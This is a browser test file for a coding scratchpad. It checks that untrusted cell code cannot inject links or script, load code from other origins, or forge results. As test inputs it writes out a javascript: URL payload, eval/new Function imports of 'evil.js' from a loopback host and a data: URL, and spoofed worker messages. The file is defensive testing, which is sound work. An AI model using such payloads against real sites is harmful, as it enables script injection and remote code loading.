/**
 * A cell's code is untrusted (it may come from a link): whatever it prints or posts, nothing of
 * it may become markup or script in the page, which the worker exists to keep it away from.
 */
import { expect, inject, test } from 'vitest';
import { useChromium } from './harness.ts';
import { cellButton, openScratchpad, output, typeCode, waitForStatus } from './cell-page.ts';

const siteUrl = inject('siteUrl');
const browser = useChromium();

/** A row whose field is a script address, and a mark option that would make it a link. */
const SCRIPT_ROW = "{ a: 1, b: 2, u: 'javascript:void(document.title=`script ran`)' }";

test("plot() refuses an option that would make a mark a link (href), with a message", async () => {
  const { page } = await openScratchpad(browser(), siteUrl);
  await typeCode(page, 'blank', `plot({ marks: [{ mark: 'dot', data: [${SCRIPT_ROW}], x: 'a', y: 'b', r: 30, href: 'u' }] });`);
  await cellButton(page, 'blank', 'Run').click();
  const status = await waitForStatus(page, 'blank', /unknown option "href"/);
  expect(status).toMatch(/line 1/);
  expect(await output(page, 'blank').locator('a').count()).toBe(0);
  await page.context().close();
});

test('a chart the code posts itself, past plot(), draws no link and runs no script when clicked', async () => {
  const { page } = await openScratchpad(browser(), siteUrl);
  const entry = `{ kind: 'plot', marks: [{ mark: 'dot', data: [${SCRIPT_ROW}], options: { x: 'a', y: 'b', r: 30, href: 'u' } }] }`;
  // The first run of a fresh cell has run id 1: the code can guess it.
  await typeCode(page, 'blank', `self.postMessage({ type: 'output', runId: 1, entry: ${entry} });\nshow('posted');`);
  await cellButton(page, 'blank', 'Run').click();
  await waitForStatus(page, 'blank', /^Done\.$/);
  const chart = output(page, 'blank').locator('svg[role="img"]');
  await chart.waitFor();
  expect(await output(page, 'blank').locator('a').count()).toBe(0);
  await chart.locator('circle').first().click({ force: true });
  await page.waitForTimeout(200);
  expect(await page.title()).not.toBe('script ran');
  await page.context().close();
});

test('an output entry of a shape the page does not know is explained, and what follows it is still drawn', async () => {
  const { page, problems } = await openScratchpad(browser(), siteUrl);
  const bad = "self.postMessage({ type: 'output', runId: 1, entry: { kind: 'table', columns: 5, rows: 7 } });";
  const odd = "self.postMessage({ type: 'output', runId: 1, entry: { kind: 'weird' } });";
  await typeCode(page, 'blank', `${bad}\n${odd}\nshow('after');`);
  await cellButton(page, 'blank', 'Run').click();
  await waitForStatus(page, 'blank', /^Done\.$/);
  const blocks = await output(page, 'blank').locator(':scope > *').allTextContents();
  expect(blocks).toEqual(['An output the code sent could not be shown.', 'An output the code sent could not be shown.', 'after']);
  expect(problems).toEqual([]);
  await page.context().close();
});

test('on a phone a wide table scrolls rather than breaking a number across lines', async () => {
  const { page } = await openScratchpad(browser(), siteUrl, '', { viewport: { width: 375, height: 800 } });
  await typeCode(page, 'blank', 'show([[1.123456789, 2, 3, 4, 5, 6, 7, 8], [4, 5, 6, 7, 8, 9, 10, 1e-9]]);');
  await cellButton(page, 'blank', 'Run').click();
  await waitForStatus(page, 'blank', /^Done\.$/);
  const lines = await output(page, 'blank').locator('td').evaluateAll((cells) =>
    cells.map((cell) => {
      const range = document.createRange();
      range.selectNodeContents(cell);
      return new Set([...range.getClientRects()].map((rect) => Math.round(rect.top))).size;
    }),
  );
  expect(lines.every((count) => count <= 1)).toBe(true);
  await page.context().close();
});

test('a thrown value that cannot even be written out still ends the run at once, not at the limit', async () => {
  const { page } = await openScratchpad(browser(), siteUrl);
  await typeCode(page, 'blank', 'throw new Proxy({}, { getPrototypeOf() { throw { toString() { throw 1; } }; } });');
  await cellButton(page, 'blank', 'Run').click();
  const status = await waitForStatus(page, 'blank', /cannot be read|runtime failed|Stopped/, 6000);
  expect(status).toBe('Thrown value: The code threw a value that cannot be read: reading it throws.');
  await page.context().close();
});

test("code reaches no other site: import() of another origin or of data: is refused by the page's policy, and the engine's Wasm still runs", async () => {
  // A second site on loopback that counts every request it gets.
  const { createServer } = await import('node:http');
  let requests = 0;
  const other = createServer((_request, response) => {
    requests++;
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
    response.end('export default 42;');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const address = other.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  try {
    const { page } = await openScratchpad(browser(), siteUrl);
    const tries = [
      `new Function("return import('http://127.0.0.1:${port}/evil.js')")()`,
      `(0, eval)("import('http://localhost:${port}/evil.js')")`,
      `new Function("return import('data:text/javascript,export default 42')")()`,
    ];
    await typeCode(
      page,
      'blank',
      `for (const attempt of [${tries.map((code) => `() => ${code}`).join(', ')}]) {\n  try { show((await attempt()).default); } catch (error) { show('refused'); }\n}`,
    );
    await cellButton(page, 'blank', 'Run').click();
    await waitForStatus(page, 'blank', /^Done\./);
    expect(await output(page, 'blank').locator(':scope > *').allTextContents()).toEqual(['refused', 'refused', 'refused']);
    expect(requests).toBe(0);

    // The policy still lets the course's engine compile its WebAssembly kernels in the cell.
    await typeCode(
      page,
      'blank',
      [
        "import { createTrainer, makeMoons, train } from 'course';",
        'const data = makeMoons({ size: 64, noise: 0.1, seed: 1 });',
        "const network = { layers: [2, 8, 1], hiddenActivation: 'relu', outputActivation: 'sigmoid', init: 'xavier', seed: 1 } as const;",
        "const trainer = createTrainer({ network, loss: 'bce', optimizer: { kind: 'sgd', learningRate: 0.1 }, batchSize: 16 }, { train: data });",
        'const { epochs } = train(trainer, { epochs: 3 });',
        'show(epochs.length);',
        'show(Number.isFinite(epochs[2].trainLoss));',
      ].join('\n'),
    );
    await cellButton(page, 'blank', 'Run').click();
    // The status still says "Done." from the run before, so wait for this run's output itself.
    await expect.poll(() => output(page, 'blank').locator(':scope > *').allTextContents(), { timeout: 15_000 }).toEqual(['3', 'true']);
    await page.context().close();
  } finally {
    await new Promise<void>((resolve) => other.close(() => resolve()));
  }
});

test('a result the code posts itself is not believed beyond its shape: no passed check from junk, no "undefined" error, output capped on the page too', async () => {
  const { page, problems } = await openScratchpad(browser(), siteUrl);
  // A flood of entries past the worker's own cap, then a done with a check of the wrong shape.
  const flood = "for (let i = 0; i < 1500; i++) self.postMessage({ type: 'output', runId: 1, entry: { kind: 'text', text: 'x' } });";
  const done = "self.postMessage({ type: 'done', runId: 1, checks: [{ name: 5, passed: 'yes' }] });";
  await typeCode(page, 'blank', `${flood}\n${done}\nawait new Promise(() => {});`);
  await cellButton(page, 'blank', 'Run').click();
  await expect.poll(() => output(page, 'blank').locator(':scope > *').count(), { timeout: 10_000 }).toBeGreaterThan(1000);
  await page.waitForTimeout(500);
  const texts = await output(page, 'blank').locator(':scope > *').allTextContents();
  expect(texts.filter((text) => text === 'x').length).toBe(1001);
  expect(texts.join(' ')).toMatch(/cannot read/);
  expect(texts.join(' ')).not.toMatch(/passed/i);

  await typeCode(page, 'blank', "self.postMessage({ type: 'done', runId: 2, error: { kind: 'zzz', message: 5, line: 'abc' } });\nawait new Promise(() => {});");
  await cellButton(page, 'blank', 'Run').click();
  const status = await waitForStatus(page, 'blank', /cannot read/);
  expect(status).not.toMatch(/undefined|abc/);
  expect(problems).toEqual([]);
  await page.context().close();
});
